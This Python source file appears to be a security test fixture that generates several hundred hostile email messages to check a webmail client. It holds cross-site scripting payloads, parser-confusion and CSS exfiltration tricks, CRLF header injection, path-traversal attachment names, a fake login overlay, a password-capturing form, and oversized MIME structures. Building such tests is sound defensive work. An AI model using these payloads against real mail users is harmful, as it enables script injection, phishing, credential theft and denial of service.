"""Over three hundred messages that attack a user of a browser, by the kind of attack.

Each message tries to set `pwned` in the page, to change the page's title, or to fetch from `HERE`. The attacks follow
published lists (OWASP's filter evasion, PortSwigger's cheat sheet, html5sec.org, MIME torture tests). All messages were
written for this file.
"""

import base64
import binascii
import quopri
import re

from mail import DOMAIN

MARK = "top.pwned=1;document.title=`pwned`"
HEAD = f"From: Charles <charles@elsewhere.test>\r\nTo: ada@{DOMAIN}\r\nMIME-Version: 1.0\r\n"

# Events that occur without the user, or when the user looks, moves, types or leaves.
EVENTS = {
    "body": "load pageshow resize scroll focus blur hashchange message popstate beforeunload unload beforeprint afterprint online offline storage",
    "img src=data:,": "error load abort loadstart loadend",
    "svg": "load begin end repeat error zoom",
    "video autoplay src=data:,": "error canplay loadeddata loadedmetadata loadstart play playing progress stalled suspend timeupdate volumechange waiting",
    "input autofocus": "focus focusin blur focusout input change invalid select search keydown keypress keyup paste cut copy beforeinput",
    "details open": "toggle beforetoggle",
    "p style=animation:a_1s;transition:all_1s": "animationstart animationend animationiteration animationcancel transitionend transitionrun transitionstart",
    "p": "click dblclick mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave wheel contextmenu pointerdown pointerup pointerover pointerenter "
         "pointermove pointerrawupdate touchstart touchend touchmove dragstart drag dragenter dragover drop auxclick gotpointercapture selectstart "
         "contentvisibilityautostatechange securitypolicyviolation",
    "marquee": "start finish bounce",
    "form": "submit reset formdata",
    "iframe src=data:,": "load",
    "object data=data:,": "error load",
    "link rel=stylesheet href=data:,": "load error",
    "style": "load error",
    "track": "cuechange load error",
    "dialog open": "close cancel",
}

# Addresses that are scripts, in any spelling.
PROGRAMS = (
    f"javascript:{MARK}", f"JaVaScRiPt:{MARK}", f" javascript:{MARK}", f"java\tscript:{MARK}", f"java\nscript:{MARK}", f"\x01javascript:{MARK}",
    f"&#106;avascript:{MARK}", f"&#x6A;avascript&colon;{MARK}", f"&#0000106avascript:{MARK}", f"javascript&#58;{MARK}", f"javascript:/*--></title>*/{MARK}",
    f"javascript://%0a{MARK}", f"feed:javascript:{MARK}", f"vbscript:{MARK}", f"livescript:{MARK}", f"data:text/html,<script>{MARK}</script>",
    "data:text/html;base64," + base64.b64encode(f"<script>{MARK}</script>".encode()).decode(), f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}'/>",
    f"blob:{MARK}", f"view-source:javascript:{MARK}", "//HERE/a", "\\\\HERE\\a", "/mail/logout", "/mail/compose?draft=1.1",
)
HOLDERS = (
    '<a href="{}" id=go>go</a>', '<a href="{}" target=_top id=go>go</a>', '<area href="{}"><map></map>', '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>',
    '<form action="{}"><button id=go>go</button></form>', '<form><button formaction="{}" id=go>go</button></form>', '<meta http-equiv=refresh content="0;url={}">', '<base href="{}"><a href=a id=go>go</a>',
    '<svg><a xlink:href="{}"><text y=20>go</text></a></svg>', '<math href="{}"><mi id=go>go</mi></math>', '<img src="{}">', '<link rel=import href="{}">', '<video poster="{}"></video>', '<input type=image src="{}">',
)

# Text that an HTML parser may confuse with the end or the beginning of an element.
CONFUSIONS = (
    f"<ScRiPt>{MARK}</sCrIpT>", f"<script/x>{MARK}</script>", f"<script\x0c>{MARK}</script>", f"<script>{MARK}", f"<<script>{MARK}//<</script>", f"<scr\0ipt>{MARK}</scr\0ipt>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>", f"<script src=data:,{MARK}></script>", "<script src=//HERE/a.js></script>", "<script type=module>import('//HERE/a.js')</script>",
    f"</iframe><script>{MARK}</script>", f"</noscript><script>{MARK}</script>", f"<noscript><p title=\"</noscript><img src=x onerror={MARK}>\">", f"<title><img title=\"</title><img src=x onerror={MARK}>\">",
    f"<style><img title=\"</style><img src=x onerror={MARK}>\">", f"<textarea><img title=\"</textarea><img src=x onerror={MARK}>\">", f"<xmp><img title=\"</xmp><img src=x onerror={MARK}>\">",
    f"<noembed><img title=\"</noembed><img src=x onerror={MARK}>\">", f"<noframes><img title=\"</noframes><img src=x onerror={MARK}>\">", f"<plaintext><script>{MARK}</script>",
    f"<!--><script>{MARK}</script>-->", f"<!-- --!><script>{MARK}</script>-->", f"<!---><img src=x onerror={MARK}>-->", f"<![CDATA[<script>{MARK}</script>]]>", f"<!--[if IE]><script>{MARK}</script><![endif]-->",
    f"<?xml version=\"1.0\"?><script>{MARK}</script>", f"<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror={MARK}>//\"></svg>", f"<svg><style><img src=x onerror={MARK}></style></svg>",
    f"<math><mtext><table><mglyph><style><math><img src=x onerror={MARK}>", f"<svg></p><style><a id=\"</style><img src=x onerror={MARK}>\">", f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={MARK}>",
    f"<svg><foreignObject><iframe srcdoc=\"<script>{MARK}</script>\"></iframe></foreignObject></svg>", f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:{MARK}'/></svg>#x\"/></svg>",
    f"<svg><animate attributeName=href values=javascript:{MARK} /><a id=go><text y=20>go</text></a></svg>", f"<svg><set attributeName=onmouseover to={MARK}></svg>", f"<template><script>{MARK}</script></template>",
    f"<template shadowrootmode=open><script>{MARK}</script></template>", f"<select><template><img src=x onerror={MARK}></template></select>", f"<table><td background=javascript:{MARK}>", f"<img src=`javascript:{MARK}`>",
    f"<img \"\"\"><script>{MARK}</script>\">", f"<img src=x:x onerror\n=\n{MARK}>", f"<img/src=x/onerror={MARK}>", f"<img src=x onerror=&#116;op.pwned=1>", f"<a href=x onclick={MARK} id=go>go</a>", f"<x onclick={MARK} id=go tabindex=1 autofocus onfocus={MARK}>go</x>",
    f"<isindex action=javascript:{MARK} type=image>", f"<bgsound src=javascript:{MARK}>", f"<layer src=//HERE/a.js></layer>", f"<frameset onload={MARK}><frame src=javascript:{MARK}></frameset>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{MARK}</script>", f"<meta http-equiv=Set-Cookie content=\"session=pwned\">", f"<meta charset=utf-7>+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
    f"<input name=token value=pwned form=x><form id=x action=/mail/logout method=post><button id=go>go</button></form>", "<form action=//HERE/a><input name=a type=password autofocus><button id=go>go</button></form>",
    f"<div style=position:fixed;inset:0;z-index:99999;background:white>Your session is over. <a href=//HERE/a>Log in</a></div>", f"<iframe srcdoc='&lt;script&gt;{MARK}&lt;/script&gt;'></iframe>", f"<iframe name=\"{MARK}\" src=//HERE/a></iframe>",
    f"<object><param name=src value=javascript:{MARK}></object>", f"<applet code=javascript:{MARK}></applet>", f"<embed code=//HERE/a.swf allowscriptaccess=always></embed>", f"<a download href=//HERE/a ping=//HERE/b>go</a>",
    f"<link rel=prefetch href=//HERE/a><link rel=dns-prefetch href=//HERE><link rel=preconnect href=//HERE>", f"<link rel=modulepreload href=//HERE/a.js>", f"<link rel=icon href=//HERE/a.png>", f"<link rel=manifest href=//HERE/a>",
    f"<picture><source srcset=//HERE/a.png><img src=//HERE/b.png></picture>", f"<img srcset='//HERE/a.png 1x' loading=eager>", f"<image src=//HERE/a.png>", f"<video><track default kind=captions src=//HERE/a.vtt></video>",
    f"<portal src=//HERE/a></portal>", f"<fencedframe src=//HERE/a></fencedframe>", f"<script type=speculationrules>{{\"prerender\":[{{\"source\":\"list\",\"urls\":[\"//HERE/a\"]}}]}}</script>",
)

# Style sheets that fetch, run or cover something.
STYLES = (
    "@import '//HERE/a.css';", "@import url(//HERE/a.css) screen;", "p{background:url(//HERE/a.png)}", "p{background-image:image-set('//HERE/a.png' 1x)}", "p{list-style:url(//HERE/a.png);display:list-item}",
    "p{cursor:url(//HERE/a.png),auto}", "p::before{content:url(//HERE/a.png)}", "p{border-image:url(//HERE/a.png) 9}", "p{mask:url(//HERE/a.svg#a)}", "p{filter:url(//HERE/a.svg#a)}", "p{clip-path:url(//HERE/a.svg#a)}",
    "p{shape-outside:url(//HERE/a.png)}", "@font-face{font-family:a;src:url(//HERE/a.woff)}p{font-family:a}", "@namespace url(//HERE/a);", "@document url(//HERE/a){p{color:red}}", "p{-moz-binding:url(//HERE/a.xml#a)}",
    "p{behavior:url(//HERE/a.htc)}", f"p{{width:expression({MARK})}}", f"p{{background:url(javascript:{MARK})}}", "p{back\\67round:u\\72l(//HERE/a.png)}", "p{background:u/**/rl(//HERE/a.png)}", "@\\69mport '//HERE/a.css';",
    "html{position:fixed;inset:0;z-index:2147483647}", "*{animation:a 1ms infinite}@keyframes a{to{background:url(//HERE/a.png)}}", "input[value^=a]{background:url(//HERE/a.png)}", "@media print{p{background:url(//HERE/a.png)}}",
    f"</style><script>{MARK}</script>", f"<!--</style><img src=x onerror={MARK}>-->", "p{background:attr(data-a url)}", "@charset 'utf-7';+ADw-/style+AD4-",
)

# Text in place of a name, a subject or a date.
WORDS = (
    f"<script>{MARK}</script>", f"\"><img src=x onerror={MARK}>", f"' onmouseover={MARK} x='", f"=?utf-8?q?=3Cscript=3E{MARK.replace('=', '=3D')}=3C/script=3E?=",
    "=?utf-8?b?" + base64.b64encode(f"<img src=x onerror={MARK}>".encode()).decode() + "?=", f"=?utf-7?q?+ADw-script+AD4-{MARK.replace('=', '=3D')}?=", f"{{{{constructor.constructor('{MARK}')()}}}}", f"</title><script>{MARK}</script>",
    f"\u202egnp.<script>{MARK}</script>", "=?utf-8?q?a=0D=0ASet-Cookie:_pwned=3D1?=", "=?" * 400, "=?utf-8?q?=00=01=02=1B[31m?=", "%0d%0aSet-Cookie:pwned=1", "A" * 900,
)
FIELDS = ("Subject: {}", "From: {} <a@elsewhere.test>", "From: \"{}\"@elsewhere.test", "To: {} <a@elsewhere.test>", "Cc: {}", "Reply-To: {} <a@elsewhere.test>", "Date: {}", "Message-ID: <{}>", "References: {}", "List-Unsubscribe: <{}>")

# Names of attached files.
FILES = (
    "../../etc/passwd", "..\\\\..\\\\windows\\\\system.ini", f"<img src=x onerror={MARK}>.html", "a.html\\\"; evil=\\\"", "a\\r\\nSet-Cookie: pwned=1", "\u202egnp.exe", "con", ".htaccess", "a" * 300, "a.svg", "a.xhtml", "a.pdf.exe", "", ".", "/", "a\tb", "файл.html",
)


def html(text, kind="text/html; charset=utf-8"):
    return f"{HEAD}Content-Type: {kind}\r\n\r\n<p>Harmless</p>{text}\r\n".encode()


def of_html():
    """Messages with attempts in their HTML."""
    for tag, events in EVENTS.items():
        for event in events.split():
            yield f"{tag} on{event}", html(f'<{tag.replace("_", " ")} on{event}="{MARK}">Text</{tag.split()[0]}>'.replace("style=animation:a 1s;transition:all 1s", 'style="animation:a 1s;transition:all 1s"'))
    for number, program in enumerate(PROGRAMS):
        holder = HOLDERS[number % len(HOLDERS)]
        yield f"address {number}", html(holder.format(program))
    for number, holder in enumerate(HOLDERS):
        yield f"holder {number}", html(holder.format(PROGRAMS[0]))
    for number, confusion in enumerate(CONFUSIONS):
        yield f"confusion {number}", html(confusion)
    for number, style in enumerate(STYLES):
        yield f"style {number}", html(f"<style>{style}</style><p data-a=//HERE/a.png>Text</p><input value=a>")


def of_headers():
    """Messages with attempts in a malformed header."""
    for number, word in enumerate(WORDS):
        for field in FIELDS[number % 2::2]:
            yield f"{field.partition(':')[0]} {number}", f"{field.format(word)}\r\n{HEAD}\r\nText\r\n".encode()


def of_files():
    """Messages with attempts in the names or media types of files."""
    bad = f"<html><script>{MARK}</script></html>"
    for name in FILES:
        yield f"file {name[:40]}", (
            f"{HEAD}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nText\r\n--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\r\n{bad}\r\n--b--\r\n"
        ).encode()
    for kind in ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/javascript", "text/css", "message/rfc822", "application/pdf", "multipart/form-data", "text/html\r\n Set-Cookie: pwned=1", "", ";", "a", "text/html;charset=utf-7"):
        yield f"kind {kind[:40]}", (
            f"{HEAD}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nText\r\n--b\r\nContent-Type: {kind}\r\nContent-Disposition: inline; filename=a\r\n\r\n{bad}\r\n--b--\r\n"
        ).encode()


def uuencoded(text):
    """The text as a uuencoded file."""
    octets = text.encode()
    lines = (binascii.b2a_uu(octets[at : at + 45]).decode() for at in range(0, len(octets), 45))
    return "begin 644 a.html\r\n" + "".join(line.replace("\n", "\r\n") for line in lines) + "`\r\nend\r\n"


def of_structure():
    """Messages with a broken or endless structure."""
    script = f"<p>Harmless</p><script>{MARK}</script>"
    encoded = base64.b64encode(script.encode()).decode()
    nested = "".join(f"Content-Type: multipart/mixed; boundary=b{depth}\r\n\r\n--b{depth}\r\n" for depth in range(300))
    of_messages = "Content-Type: message/rfc822\r\n\r\n" * 300
    bodies = {
        "nested without end": nested + "\r\nText",
        "letters within letters": of_messages + "\r\nText",
        "ten thousand parts": "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + "--b\r\n\r\na\r\n" * 10_000,
        "ten thousand alternatives": "Content-Type: multipart/alternative; boundary=b\r\n\r\n" + "--b\r\nContent-Type: text/html\r\n\r\n<b>a</b>\r\n" * 10_000,
        "no boundary": "Content-Type: multipart/mixed\r\n\r\n--b\r\n\r\nText\r\n--b--",
        "an empty boundary": "Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n--\r\n\r\nText\r\n----",
        "a boundary that never comes": "Content-Type: multipart/mixed; boundary=b\r\n\r\nText",
        "a boundary within another": "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/mixed; boundary=bb\r\n\r\n--bb\r\n\r\nText\r\n--b--\r\n--bb--",
        "the same boundary inside": "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nText\r\n--b--\r\n--b--",
        "a boundary of a thousand": f"Content-Type: multipart/mixed; boundary={'b' * 1000}\r\n\r\n--{'b' * 1000}\r\n\r\nText",
        "two kinds": f"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n{script}",
        "a kind with comments": f"Content-Type: (a(b)c)text(d)/(e)html(f\r\n\r\n{script}",
        "an unknown encoding": f"Content-Type: text/html\r\nContent-Transfer-Encoding: x-unknown\r\n\r\nbegin 644 a\r\n{script}",
        "a uuencoded page": f"Content-Type: text/html\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\n{uuencoded(script)}",
        "a uuencoded page without an end": f"Content-Type: text/html\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 a\r\n{script}",
        "base64 with holes": f"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n{'*-'.join(encoded)}",
        "base64 that ends early": f"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n{encoded[:9]}==\r\n{encoded}",
        "quoted beyond its end": f"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{quopri.encodestring(script.encode()).decode()}=\r\n=3",
        "an encoded multipart": f"Content-Type: multipart/mixed; boundary=b\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(b'--b').decode()}",
        "a part elsewhere": "Content-Type: message/external-body; access-type=URL; URL=\"HERE/a\"\r\n\r\nContent-Type: text/html\r\n\r\n",
        "a part of a message": "Content-Type: message/partial; id=a; number=1; total=2\r\n\r\nText",
        "a line of 100 KB": "Content-Type: text/html\r\n\r\n<p>" + "a" * 100_000,
        "ten thousand tags": "Content-Type: text/html\r\n\r\n" + "<b>" * 10_000,
        "a hundred thousand tags": "Content-Type: text/html\r\n\r\n" + "<b>" * 100_000 + script,
        "nested tables": "Content-Type: text/html\r\n\r\n" + "<table><tr><td>" * 5_000,
        "more nested tables": "Content-Type: text/html\r\n\r\n" + "<table><tr><td>" * 20_000 + script,
        "a line of 2 MB": "Content-Type: text/html\r\n\r\n<p>" + "a" * 2_000_000 + script,
        "many references": "References: " + "\r\n ".join(f"<{number}@a.test>" for number in range(5_000)) + "\r\n\r\nText",
        "many recipients": "Cc: " + ",\r\n ".join(f"a{number}@a.test" for number in range(5_000)) + "\r\n\r\nText",
        "a header of 200 KB": "X-A: " + "\r\n ".join("a" * 900 for _ in range(220)) + "\r\n\r\nText",
        "a header that does not end": "X-A: a\r\nX-B",
        "no header": "\r\nText",
        "a parameter in pieces": f"Content-Type: text/html; name*0*=utf-7''%2B; name*1*=ADw-; name*9999=a; name*-1=b\r\n\r\n{script}",
        "control characters": "Content-Type: text/plain\r\n\r\n" + "".join(map(chr, range(1, 32))).replace("\r", "").replace("\n", "") + "\x7f",
        "quotes in quotes": "\r\n" + "\r\n".join(">" * depth + " a" for depth in range(1, 500)),
        "a signature of nothing": "Content-Type: multipart/signed; boundary=b; protocol=\"application/pgp-signature\"\r\n\r\n--b\r\n\r\nText\r\n--b--",
        "TNEF": "Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\neJ8+IgAA",
        "related to itself": f"Content-Type: multipart/related; boundary=b; start=\"<a>\"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-ID: <a>\r\n\r\n<p>Harmless</p><img src=cid:a><iframe src=cid:a></iframe>\r\n--b--",
        "a drawing by its name": f"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>Harmless</p><img src=cid:a><object data=cid:a></object>\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <a>\r\n\r\n<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}'/>\r\n--b--",
    }
    for name, body in bodies.items():
        yield name, (HEAD + body + "\r\n").encode()
    for charset in ("utf-7", "utf-16", "utf-32", "utf-16le", "iso-2022-jp", "iso-2022-kr", "iso-2022-cn", "hz-gb-2312", "x-user-defined", "cp037", "x-unknown", "", "utf-8; charset=utf-7", "\u202e", "a" * 500):
        yield f"charset {charset[:20]}", (f"{HEAD}Content-Type: text/html; charset={charset}\r\n\r\n<p>Harmless</p>+ADw-script+AD4-{MARK}+ADw-/script+AD4-\x1b$B<script>\x1b(B\r\n").encode()
    for name, raw in {
        "overlong": b"\xc0\xbcscript\xc0\xbe", "surrogates": b"\xed\xa0\x80<script>", "half a character": b"<img alt=\"\xc3\"><script>" + MARK.encode() + b"</script>\"", "NUL": b"\0<scr\0ipt>", "not ended": b"\xf0\x9f", "a mark at the start": b"\xff\xfe<\0s\0",
    }.items():
        yield f"bytes: {name}", f"{HEAD}Content-Type: text/html; charset=utf-8\r\n\r\n<p>Harmless</p>".encode() + raw + b"\r\n"


def in_lines(message):
    """The message with CRLF line ends. The server refuses other line ends (RFC 5321 section 2.3.8)."""
    return re.sub(rb"\r?\n|\r", b"\r\n", message)


def messages(here):
    """All messages: (name, message). `here`: the authority that they try to fetch from, such as `127.0.0.1:8000`."""
    for of in (of_html, of_headers, of_files, of_structure):
        for name, message in of():
            yield f"{of.__name__[3:]}: {name}", in_lines(message.replace(b"HERE", here.encode()))
